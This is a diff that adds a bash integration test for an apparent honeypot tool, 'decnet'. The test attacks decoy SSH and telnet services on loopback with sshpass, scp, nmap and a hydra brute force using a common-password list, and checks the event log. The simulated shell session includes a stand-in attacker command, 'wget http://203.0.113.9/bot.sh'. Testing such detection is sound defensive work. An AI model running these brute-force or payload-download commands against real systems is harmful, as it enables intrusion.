@@ -1,0 +1,200 @@
+#!/usr/bin/env bash
+# SSH and telnet deckies against the real tools: OpenSSH `ssh` through
+# sshpass (PTY shell and exec), `scp` upload (sftp mode and legacy -O),
+# `hydra -t 4` with a 20-word list containing the password (it must find it,
+# and decnet.log must hold exactly one auth_attempt per hydra attempt),
+# `nmap -sV` naming OpenSSH with the persona's version, and a telnet login
+# (python socket client). Asserts on DATA_DIR/decnet.log. Installs what it needs.
+set -euo pipefail
+cd "$(dirname "$0")/../.."
+
+need=()
+for t in ssh:openssh-client sshpass:sshpass hydra:hydra nmap:nmap python3:python3; do
+    command -v "${t%%:*}" >/dev/null 2>&1 || need+=("${t##*:}")
+done
+if [ ${#need[@]} -gt 0 ]; then
+    echo "ssh.sh: installing ${need[*]}"
+    export DEBIAN_FRONTEND=noninteractive
+    apt-get update -qq
+    apt-get install -y -qq "${need[@]}" >/dev/null
+fi
+
+[ -n "${DECNET_BIN:-}" ] || cargo build -q -p decnet
+BIN=${DECNET_BIN:-target/debug/decnet}
+WORK=$(mktemp -d /tmp/decnet-ssh.XXXXXX)
+DATA="$WORK/data"
+LOG="$DATA/decnet.log"
+PID=""
+cleanup() {
+    if [ -n "$PID" ]; then kill "$PID" 2>/dev/null || true; wait "$PID" 2>/dev/null || true; fi
+    rm -rf "$WORK"
+}
+trap cleanup EXIT
+
+SHELLBOX=127.0.61.50
+BRUTE=127.0.61.51
+TELNET=127.0.61.52
+OFF=0
+if [ "$(id -u)" != 0 ]; then OFF=20000; fi
+p() { echo $(( $1 + OFF )); }
+
+cat >"$WORK/fleet.ini" <<EOF
+[general]
+net = 127.0.61.0/24
+
+[shell01]
+ip = $SHELLBOX
+services = ssh
+distro = debian
+
+[shell01.ssh]
+password = toor
+user = deploy
+user_password = s3cret
+
+[brute01]
+ip = $BRUTE
+services = ssh
+distro = debian
+
+[brute01.ssh]
+password = dragon77
+
+[tel01]
+ip = $TELNET
+services = telnet
+distro = debian
+
+[tel01.telnet]
+password = telnetpw
+EOF
+
+"$BIN" serve --config "$WORK/fleet.ini" --data-dir "$DATA" --port-offset "$OFF" \
+    --api 127.0.0.1:$((19000 + RANDOM % 1000)) >"$WORK/serve.out" 2>&1 &
+PID=$!
+for _ in $(seq 1 150); do
+    if (exec 3<>/dev/tcp/$SHELLBOX/$(p 22)) 2>/dev/null; then break; fi
+    kill -0 "$PID" 2>/dev/null || { cat "$WORK/serve.out"; echo "ssh.sh: serve died" >&2; exit 1; }
+    sleep 0.1
+done
+
+fail() { echo "ssh.sh: FAIL: $*" >&2; echo "--- decnet.log tail:" >&2; tail -n 40 "$LOG" >&2 || true; exit 1; }
+expect_log() { # what, patterns... (all on one line, any order)
+    local what=$1; shift
+    for _ in $(seq 1 50); do
+        local lines
+        lines=$(cat "$LOG" 2>/dev/null || true)
+        for pat in "$@"; do lines=$(grep -E -- "$pat" <<<"$lines" || true); done
+        [ -n "$lines" ] && return 0
+        sleep 0.1
+    done
+    fail "no log line for $what ($*)"
+}
+
+SSHOPTS=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no
+         -o PreferredAuthentications=password,keyboard-interactive -o LogLevel=ERROR -o ConnectTimeout=10)
+
+# --- nmap -sV: OpenSSH with the persona's version (debian: OpenSSH_9.2p1 Debian-2+deb12u3)
+nmap -sV -Pn -n -p "$(p 22)" "$SHELLBOX" -oN "$WORK/nmap.txt" >/dev/null 2>&1 || fail "nmap run"
+grep -E "^$(p 22)/tcp +open +ssh +OpenSSH 9\.2p1 Debian 2\+deb12u3" "$WORK/nmap.txt" >/dev/null \
+    || { cat "$WORK/nmap.txt"; fail "nmap did not report OpenSSH 9.2p1 Debian 2+deb12u3"; }
+grep -v "^#" "$WORK/nmap.txt" | grep -qi decnet && fail "nmap output names decnet"
+
+# --- exec
+out=$(sshpass -p toor ssh "${SSHOPTS[@]}" -p "$(p 22)" root@$SHELLBOX 'uname -a; id') || fail "ssh exec ($out)"
+grep -q "^Linux .* x86_64 GNU/Linux$" <<<"$out" || fail "uname -a output: $out"
+grep -q "^uid=0(root) gid=0(root) groups=0(root)$" <<<"$out" || fail "id output: $out"
+expect_log "ssh login with HASSH" 'shell01 ssh - auth_attempt' 'username="root"' 'success="true"' \
+    'client_version="SSH-2.0-OpenSSH_' 'hassh="[0-9a-f]{32}"'
+expect_log "exec command" 'shell01 ssh - command' 'command="uname -a; id"'
+
+# --- PTY shell
+printf 'whoami\ncd /tmp && pwd\nwget http://203.0.113.9/bot.sh\nexit\n' \
+    | timeout 30 sshpass -p s3cret ssh -tt "${SSHOPTS[@]}" -p "$(p 22)" deploy@$SHELLBOX >"$WORK/shell.out" 2>&1 \
+    || { cat "$WORK/shell.out"; fail "ssh shell"; }
+tr -d '\r' <"$WORK/shell.out" >"$WORK/shell.txt"
+grep -q "^deploy$\|\$ deploy$" "$WORK/shell.txt" || { cat "$WORK/shell.txt"; fail "whoami in shell"; }
+grep -q "\(^\|\$ \)/tmp$" "$WORK/shell.txt" || { cat "$WORK/shell.txt"; fail "cd/pwd in shell"; }
+grep -q 'deploy@[a-z0-9-]*:/tmp\$ ' "$WORK/shell.txt" || { cat "$WORK/shell.txt"; fail "prompt"; }
+expect_log "shell command" 'shell01 ssh - command' 'command="whoami"' 'user="deploy"'
+expect_log "wget recorded" 'shell01 ssh - file_download' 'url="http://203.0.113.9/bot.sh"'
+ls "$DATA"/deckies/shell01/transcripts/*.cast >/dev/null 2>&1 || fail "no asciicast transcript"
+grep -l '"whoami' "$DATA"/deckies/shell01/transcripts/*.cast >/dev/null || fail "transcript lacks input"
+
+# --- scp upload: sftp mode (default) and legacy protocol (-O)
+head -c 20000 /dev/urandom >"$WORK/payload1.bin"
+head -c 3000 /dev/urandom >"$WORK/payload2.bin"
+sha1=$(sha256sum "$WORK/payload1.bin" | cut -d' ' -f1)
+sha2=$(sha256sum "$WORK/payload2.bin" | cut -d' ' -f1)
+sshpass -p toor scp "${SSHOPTS[@]}" -P "$(p 22)" "$WORK/payload1.bin" root@$SHELLBOX:/tmp/ >"$WORK/scp1.out" 2>&1 \
+    || { cat "$WORK/scp1.out"; fail "scp (sftp mode)"; }
+sshpass -p toor scp -O "${SSHOPTS[@]}" -P "$(p 22)" "$WORK/payload2.bin" root@$SHELLBOX:/root/p2.bin >"$WORK/scp2.out" 2>&1 \
+    || { cat "$WORK/scp2.out"; fail "scp -O"; }
+expect_log "sftp upload" 'shell01 ssh - file_upload' "sha256=\"$sha1\"" 'via="sftp"'
+expect_log "scp upload" 'shell01 ssh - file_upload' "sha256=\"$sha2\"" 'via="scp"' 'path="/root/p2.bin"'
+cmp "$WORK/payload1.bin" "$DATA/artifacts/$sha1" || fail "artifact 1 content"
+cmp "$WORK/payload2.bin" "$DATA/artifacts/$sha2" || fail "artifact 2 content"
+out=$(sshpass -p toor ssh "${SSHOPTS[@]}" -p "$(p 22)" root@$SHELLBOX 'ls -l /tmp /root/p2.bin') || fail "ls after upload"
+grep -q " payload1.bin$" <<<"$out" || fail "upload not in the VFS: $out"
+grep -q " 3000 .* /root/p2.bin$" <<<"$out" || fail "scp -O upload not in the VFS: $out"
+
+# --- hydra: 20 words, the password among them; attempts == auth_attempt lines
+for w in 123456 password admin root qwerty letmein 12345678 welcome monkey abc123 \
+         dragon77 football iloveyou 111111 sunshine master shadow trustno1 passw0rd baseball; do
+    echo "$w"
+done >"$WORK/words.txt"
+[ "$(wc -l <"$WORK/words.txt")" = 20 ] || fail "word list"
+hydra -l root -P "$WORK/words.txt" -t 4 -V -I -s "$(p 22)" "ssh://$BRUTE" >"$WORK/hydra.out" 2>&1 || true
+grep -q 'login: root   password: dragon77' "$WORK/hydra.out" || { cat "$WORK/hydra.out"; fail "hydra did not find the password"; }
+attempts=$(grep -c '^\[ATTEMPT\]' "$WORK/hydra.out" || true)
+sleep 0.5
+logged=$(grep -c 'brute01 ssh - auth_attempt' "$LOG" || true)
+echo "ssh.sh: hydra attempts=$attempts, auth_attempt events=$logged"
+[ "$attempts" -gt 0 ] && [ "$attempts" = "$logged" ] || { cat "$WORK/hydra.out"; fail "hydra made $attempts attempts, log has $logged auth_attempt lines"; }
+
+# --- telnet login with the decky's own telnet credentials, shared shell
+python3 - "$TELNET" "$(p 23)" >"$WORK/telnet.out" 2>&1 <<'PY' || { cat "$WORK/telnet.out"; fail "telnet session"; }
+import socket, sys, time
+host, port = sys.argv[1], int(sys.argv[2])
+s = socket.create_connection((host, port), timeout=10)
+buf = b""
+def strip(data):
+    out, i = bytearray(), 0
+    while i < len(data):
+        b = data[i]
+        if b == 255 and i + 1 < len(data):
+            c = data[i + 1]
+            if c in (251, 252, 253, 254):
+                i += 3; continue
+            if c == 250:
+                j = data.find(b"\xff\xf0", i)
+                i = len(data) if j < 0 else j + 2; continue
+            i += 2; continue
+        out.append(b); i += 1
+    return bytes(out)
+def until(needle, limit=10):
+    global buf
+    end = time.time() + limit
+    while needle.encode() not in buf:
+        if time.time() > end:
+            raise SystemExit(f"timeout waiting for {needle!r}; got {buf!r}")
+        chunk = s.recv(4096)
+        if not chunk:
+            raise SystemExit(f"closed waiting for {needle!r}; got {buf!r}")
+        buf += strip(chunk)
+    text, buf = buf.decode(errors="replace"), b""
+    return text
+until("login: "); s.sendall(b"root\r\n")
+until("Password: "); s.sendall(b"telnetpw\r\n")
+until("# "); s.sendall(b"uname -r; cat /etc/hostname\r\n")
+out = until("# ")
+print(out)
+assert "-amd64" in out, out
+s.sendall(b"exit\r\n")
+print(until("logout"))
+PY
+expect_log "telnet login" 'tel01 telnet - auth_attempt' 'username="root"' 'success="true"'
+expect_log "telnet command" 'tel01 telnet - command' 'command="uname -r; cat /etc/hostname"'
+
+kill "$PID"; wait "$PID" 2>/dev/null || true; PID=""
+echo "ssh.sh: OK"
